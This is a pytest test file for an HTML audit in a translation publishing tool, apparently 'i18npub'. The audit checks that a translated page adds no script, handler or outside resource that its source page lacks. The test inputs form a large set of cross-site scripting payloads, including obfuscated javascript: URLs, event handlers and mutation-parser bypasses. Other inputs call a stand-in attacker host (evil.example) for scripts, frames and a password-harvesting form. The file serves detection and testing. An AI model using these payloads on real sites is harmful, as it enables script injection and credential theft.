"""`audit`'s comparison on hand-written page pairs: what a translated page may hold (what its
source page holds, read as a browser reads it) and what it may not."""

from __future__ import annotations

import pytest

from i18npub.core.css import css_urls
from i18npub.core.htmlaudit import BuiltSite, allowed_by, compare, read_page, refresh_target, srcset_urls

FILES = frozenset({
    "index.html", "en/index.html", "x/index.html", "en/x/index.html", "actualites/y/index.html",
    "en/actualites/y-en/index.html", "img/logo.png", "assets/style.css", "assets/app.js", "uploads/other.js",
})
SITE = BuiltSite.at("", FILES)

LAYOUT = """<!doctype html>
<html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="/assets/style.css">
<link rel="alternate" hreflang="{other}" href="{alternate}">
<script src="/assets/app.js"></script>
<script type="application/ld+json">{{"headline": "{title}", "url": "{alternate}"}}</script>
</head><body><nav><a href="{home}">{title}</a></nav>
<main>{body}</main></body></html>"""

SOURCE_BODY = '<h2 id="mon-titre">Titre</h2><p>Voir <a href="/actualites/y/">la suite</a>.</p>'
TRANSLATED_BODY = '<h2 id="my-title">Title</h2><p>See <a href="/en/actualites/y-en/">more</a>.</p>'


def french(body: str) -> str:
    return LAYOUT.format(lang="fr", title="Un titre", other="en", alternate="/en/x/", home="/", body=body)


def english(body: str) -> str:
    return LAYOUT.format(lang="en", title="A title", other="fr", alternate="/x/", home="/en/", body=body)


def audit(source_body: str, translated_body: str) -> set[tuple]:
    """(code, element, attribute) of each finding of the translated page against its source."""
    source = read_page(french(source_body), SITE.page_url("x/index.html"))
    translated = read_page(english(translated_body), SITE.page_url("en/x/index.html"))
    return {(f.code, f.element, f.attribute) for f in compare(translated, allowed_by([source]), SITE)}


def injected(extra: str, source_extra: str = "") -> set[tuple]:
    return audit(SOURCE_BODY + source_extra, TRANSLATED_BODY + extra)


# --- A clean translation reports nothing ------------------------------------------------------

CLEAN = [
    ("same relative file at another depth", '<img src="../img/logo.png" alt="Logo">', '<img src="../../img/logo.png" alt="The logo">'),
    ("same file, other spellings", '<img src="/img/logo.png">', '<img src=" /img/%6Cogo.png\n">'),
    ("relative link to a missing file, written the same", '<a href="LIEN">x</a>', '<a href="LIEN">x</a>'),
    ("localized internal link", '<a href="/actualites/y/">suite</a>', '<a href="/en/actualites/y-en/">more</a>'),
    ("translated heading ids and footnotes", '<a href="#mon-titre">haut</a><sup><a href="#fn:1">1</a></sup>',
     '<a href="#my-title">top</a><sup><a href="#fn:1">1</a></sup>'),
    ("external link, entities and case", '<a href="https://a.example/?a=1&amp;b=2">a</a>', '<a href="HTTPS://A.EXAMPLE/?a=1&b=2">a</a>'),
    ("protocol-relative in both", '<a href="//a.example/p">a</a>', '<a href="https://a.example/p">a</a>'),
    ("embed with translated title", '<iframe src="https://video.example/e/1" title="Vidéo" allowfullscreen></iframe>',
     '<iframe src="https://video.example/e/1" title="Video" allowfullscreen></iframe>'),
    ("inline svg with translated label", '<svg aria-label="Flèche" viewBox="0 0 1 1"><title>Flèche</title><path d="M0 0"/></svg>',
     '<svg aria-label="Arrow" viewBox="0 0 1 1"><title>Arrow</title><path d="M0 0"/></svg>'),
    ("srcset at another depth", '<img srcset="../img/logo.png 1x, ../img/logo.png 2x">', '<img srcset="../../img/logo.png 1x,../../img/logo.png 2x">'),
    ("content language", '<meta http-equiv="Content-Language" content="fr">', '<meta http-equiv="Content-Language" content="en">'),
    ("same handler", '<button onclick="toggle()">Menu</button>', '<button onclick="toggle()">Menu</button>'),
    ("style without URL, kept URL", '<p style="background:url(/img/logo.png)">x</p>', '<p style="background: URL( \'../../img/logo.png\' )">x</p>'),
]


@pytest.mark.parametrize("name, source, translation", CLEAN, ids=[c[0] for c in CLEAN])
def test_clean_translation_reports_nothing(name, source, translation):
    assert audit(SOURCE_BODY + source, TRANSLATED_BODY + translation) == set()


def test_layout_differences_between_languages_are_not_findings():
    # lang, title, the hreflang alternates and the JSON-LD data differ: none can run or load anything new
    assert audit(SOURCE_BODY, TRANSLATED_BODY) == set()


def test_redirect_to_the_localized_page_is_a_refresh_like_the_source():
    assert audit('<meta http-equiv="refresh" content="0; url=/actualites/y/">', '<meta http-equiv="refresh" content="0; url=/en/actualites/y-en/">') == set()


# --- Every injection is named -----------------------------------------------------------------

SCRIPT_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \tjavascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
]


@pytest.mark.parametrize("html", SCRIPT_URLS)
def test_script_urls_in_every_spelling(html):
    assert injected(html) == {("script-url", "a", "href")}


HANDLERS = [
    ('<img src="/img/logo.png" onerror="alert(1)">', ("img", "onerror")),
    ('<IMG SRC="/img/logo.png" ONERROR="alert(1)">', ("img", "onerror")),
    ("<img src=/img/logo.png onerror=alert(1)>", ("img", "onerror")),
    ('<img src="/img/logo.png" onerror="&#97;lert(1)">', ("img", "onerror")),
    ("<p onmouseover='alert(1)'>x</p>", ("p", "onmouseover")),
    ('<details open ontoggle="alert(1)"><summary>x</summary></details>', ("details", "ontoggle")),
    ('<body onload="alert(1)">', ("body", "onload")),  # a second body tag adds its attributes to the page's
]


@pytest.mark.parametrize("html, where", HANDLERS)
def test_inline_handlers_in_every_form(html, where):
    assert injected(html) == {("handler", *where)}


def test_a_handler_the_source_has_elsewhere_or_with_other_code_is_new():
    assert injected('<img src="/img/logo.png" onclick="toggle()">', '<button onclick="toggle()">x</button>') == {("handler", "img", "onclick")}
    assert injected('<button onclick="steal()">x</button>', '<button onclick="toggle()">x</button>') == {("handler", "button", "onclick")}


INJECTIONS = [
    ("script", "<script>alert(1)</script>", {("element", "script", None)}),
    # like the layout's <script src>: the element matches, its URL does not
    ("script with a source", '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>', {("foreign-url", "script", "src")}),
    ("script of this site the source does not load", '<script src="/uploads/other.js"></script>', {("embedded-url", "script", "src")}),
    ("svg script", "<svg><script>alert(1)</script></svg>", {("element", "svg", None), ("element", "script", None)}),
    ("svg handler", "<svg/onload=alert(1)>", {("element", "svg", None), ("handler", "svg", "onload")}),
    ("svg link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
     {("element", "svg", None), ("script-url", "a", "xlink:href")}),
    ("svg animation", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
     {("element", "svg", None), ("element", "animate", None)}),
    ("math link", '<math><mi href="javascript:alert(1)">x</mi></math>', {("element", "math", None), ("script-url", "mi", "href")}),
    # parsed once, as a browser does, the style holds text (a sanitizer that re-parses sees an img)
    ("math mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     {("element", "math", None), ("element", "style", None)}),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', {("element", "iframe", None), ("foreign-url", "iframe", "src")}),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', {("element", "iframe", None)}),
    ("object data", '<object data="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></object>',
     {("element", "object", None), ("data-url", "object", "data")}),
    ("embed", '<embed src="https://evil.example/x.swf">', {("element", "embed", None), ("foreign-url", "embed", "src")}),
    ("form", '<form action="https://evil.example/login"><input type="password" name="p"></form>',
     {("element", "form", None), ("foreign-url", "form", "action")}),
    ("formaction", '<button formaction="javascript:alert(1)">x</button>', {("script-url", "button", "formaction")}),
    ("meta refresh", '<meta http-equiv="refresh" content="0;URL=\'https://evil.example/\'">',
     {("element", "meta", None), ("foreign-url", "meta", "content")}),
    ("style element", "<style>p { color: red }</style>", {("element", "style", None)}),
    ("style import", "<style>@import 'https://evil.example/x.css';</style>", {("element", "style", None)}),
    ("stylesheet link in the body", '<link rel="stylesheet" href="https://evil.example/x.css">', {("foreign-url", "link", "href")}),
    ("template", "<template><script>alert(1)</script></template>", {("element", "template", None), ("element", "script", None)}),
    ("template contents run when cloned", '<template><img src="/img/logo.png" onerror="alert(1)"></template>',
     {("element", "template", None), ("handler", "img", "onerror")}),
    ("noscript hides a script from a parser without scripts",
     "<noscript><!-- </noscript><script>alert(1)</script> --></noscript>",
     {("element", "noscript", None), ("element", "script", None)}),
    ("noscript runs markup in a browser without scripts", '<noscript><img src="/img/logo.png" onerror="alert(1)"></noscript>',
     {("element", "noscript", None), ("handler", "img", "onerror")}),
    ("data image", '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">', {("data-url", "img", "src")}),
    ("data link", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', {("data-url", "a", "href")}),
    ("srcset candidate", '<img src="/img/logo.png" srcset="/img/logo.png 1x, https://evil.example/p.png 2x">', {("foreign-url", "img", "srcset")}),
    ("foreign link", '<a href="https://evil.example/">x</a>', {("foreign-url", "a", "href")}),
    ("protocol-relative link", '<a href="//evil.example/">x</a>', {("foreign-url", "a", "href")}),
    ("backslash link", '<a href="/\\evil.example/">x</a>', {("foreign-url", "a", "href")}),
    ("mail link", '<a href="mailto:x@evil.example">x</a>', {("foreign-url", "a", "href")}),
    ("tracking ping", '<a href="/en/x/" ping="https://evil.example/t">x</a>', {("foreign-url", "a", "ping")}),
    ("poster", '<video poster="//evil.example/p.png"></video>', {("foreign-url", "video", "poster")}),
    ("style url", '<p style="background-image:url(https://evil.example/t.png)">x</p>', {("foreign-url", "p", "style")}),
    ("style url escaped", '<p style="background:u\\72l(//evil.example/t.png)">x</p>', {("foreign-url", "p", "style")}),
    ("style image-set", '<p style="background:image-set(\'//evil.example/t.png\' 1x)">x</p>', {("foreign-url", "p", "style")}),
    ("page the build lacks", '<a href="/admin/delete">x</a>', {("unknown-page", "a", "href")}),
    ("query a script could read", '<a href="/en/x/?q=%3Cscript%3E">x</a>', {("unknown-page", "a", "href")}),
    ("fragment a script could read", '<a href="/en/x/#&lt;img src=x onerror=alert(1)&gt;">x</a>', {("unknown-page", "a", "href")}),
    ("preloaded script of this site", '<link rel="preload" as="script" href="/uploads/other.js">',
     {("element", "link", None), ("embedded-url", "link", "href")}),
    ("preloaded image of this site", '<link rel="preload" as="image" href="/img/logo.png">', {("element", "link", None)}),
    ("frame of this site", '<iframe src="/en/actualites/y-en/"></iframe>', {("element", "iframe", None), ("embedded-url", "iframe", "src")}),
    ("data block of a type the source lacks", '<script type="text/template"><img src=x onerror=alert(1)></script>', {("element", "script", None)}),
]


@pytest.mark.parametrize("name, html, expected", INJECTIONS, ids=[c[0] for c in INJECTIONS])
def test_injections_are_named(name, html, expected):
    assert injected(html) == expected


def test_an_embed_like_the_source_one_pointing_elsewhere_is_its_url():
    video = '<iframe src="https://video.example/e/1" allowfullscreen></iframe>'
    assert injected(video.replace("video.example", "evil.example"), video) == {("foreign-url", "iframe", "src")}
    assert injected(video + video, video) == set()  # the same element again loads nothing new


def test_a_base_element_moves_every_relative_url():
    found = injected('<base href="https://evil.example/">')
    assert ("element", "base", None) in found and ("foreign-url", "base", "href") in found
    # the layout's own root-relative script and style sheet now load from the other site
    assert {("foreign-url", "script", "src"), ("foreign-url", "link", "href")} <= found


def test_json_data_blocks_are_compared_by_attributes_and_number():
    assert injected('<script type="application/json" id="d">{"x": "<y>"}</script>', '<script type="application/json" id="d">{}</script>') == set()
    assert injected('<script type="application/json" id="other">{}</script>') == {("element", "script", None)}
    # a second block like the layout's JSON-LD: a script reading the first one might read it
    assert injected('<script type="application/ld+json">{"headline": "Spam"}</script>') == {("element", "script", None)}


def test_findings_carry_the_value_as_written_and_resolved():
    source = read_page(french(SOURCE_BODY), SITE.page_url("x/index.html"))
    translated = read_page(english('<a href=" //Evil.Example/a b">x</a><img src=x onerror="alert(1)">'), SITE.page_url("en/x/index.html"))
    found = {f.code: f for f in compare(translated, allowed_by([source]), SITE)}
    assert (found["foreign-url"].value, found["foreign-url"].url) == (" //Evil.Example/a b", "https://evil.example/a%20b")
    assert (found["handler"].value, found["handler"].url) == ("alert(1)", None)
    assert "not in the source page" in found["handler"].message


def test_each_thing_is_reported_once_per_page():
    findings = compare(
        read_page(english("<script>alert(1)</script>" * 3), SITE.page_url("en/x/index.html")),
        allowed_by([read_page(french(""), SITE.page_url("x/index.html"))]), SITE,
    )
    assert [f.code for f in findings] == ["element"]


# --- The site a URL belongs to ----------------------------------------------------------------

def test_site_url_decides_what_is_this_site():
    site = BuiltSite.at("https://www.example.org/blog", frozenset({"en/x/index.html", "x/index.html"}))
    assert site.url == "https://www.example.org/blog/"
    source = read_page('<link rel="canonical" href="https://www.example.org/blog/x/">', site.page_url("x/index.html"))
    translated = read_page(
        '<link rel="canonical" href="https://www.example.org/blog/en/x/"><a href="https://www.example.org/other/">o</a>'
        '<a href="http://www.example.org/blog/x/">h</a><a href="/blog/x/">r</a>',
        site.page_url("en/x/index.html"),
    )
    codes = [(f.code, f.value) for f in compare(translated, allowed_by([source]), site)]
    assert codes == [("foreign-url", "https://www.example.org/other/"), ("foreign-url", "http://www.example.org/blog/x/")]


@pytest.mark.parametrize("url", ["ftp://example.org/", "/relative/", "https://example.org/?q", "javascript:alert(1)"])
def test_site_url_must_be_a_web_address(url):
    from i18npub.errors import UsageError

    with pytest.raises(UsageError):
        BuiltSite.at(url, frozenset())


def test_files_are_found_as_static_servers_map_urls():
    site = BuiltSite.at("", frozenset({"a/index.html", "b.html", "c", "é t/index.html"}))
    url = read_page('<a href="/a/">1</a><a href="/b">2</a><a href="/c">3</a><a href="/a">4</a><a href="/%C3%A9%20t/">5</a><a href="/d/">6</a>',
                    site.page_url("index.html")).views[0].urls
    assert [site.file_of(u.url) for u in url] == ["a/index.html", "b.html", "c", "a/index.html", "é t/index.html", None]
    assert site.page_url("é t/index.html") == "https://site.invalid/%C3%A9%20t/"


# --- The standards' small parsers -------------------------------------------------------------

@pytest.mark.parametrize("value, urls", [
    ("a.png", ["a.png"]),
    ("a.png 1x, b.png 2x", ["a.png", "b.png"]),
    ("a.png 1x,b.png 2x", ["a.png", "b.png"]),
    ("a,b.png 100w, c.png", ["a,b.png", "c.png"]),  # a comma inside a URL belongs to it
    ("a.png,b.png", ["a.png,b.png"]),
    ("a.png, b.png", ["a.png", "b.png"]),
    (" ,, a.png (1,2) 1x ,b.png", ["a.png", "b.png"]),  # commas in a descriptor's parentheses
    ("", []),
])
def test_srcset_candidates(value, urls):
    assert srcset_urls(value) == urls


@pytest.mark.parametrize("content, target", [
    ("5", ("5", None)),
    ("0;url=/x/", ("0", "/x/")),
    ("0; URL = '/x/'tail", ("0", "/x/")),
    ('3, "/y/"', ("3", "/y/")),
    ("0 /z/", ("0", "/z/")),
    ("0;urn=/x/", ("0", "urn=/x/")),
    (".5; url=/x/", (".5", "/x/")),
    ("soon; url=/x/", None),
    ("0x; url=/x/", None),
])
def test_refresh_targets(content, target):
    assert refresh_target(content) == target


@pytest.mark.parametrize("css, urls", [
    ("color: red", []),
    ("background: url(a.png)", ["a.png"]),
    ("background: URL( 'b.png' )", ["b.png"]),
    ("background: u\\72l(c.png)", ["c.png"]),
    ("background: /* url(no) */ url(d.png)", ["d.png"]),
    ("background: image-set('e.png' 1x, url(f.png) 2x)", ["e.png", "f.png"]),
    ("content: 'url(no)'", []),
    ("@import 'g.css'; color: red", ["g.css"]),
    ("mask: src('h.svg')", ["h.svg"]),
])
def test_css_urls(css, urls):
    assert css_urls(css) == urls
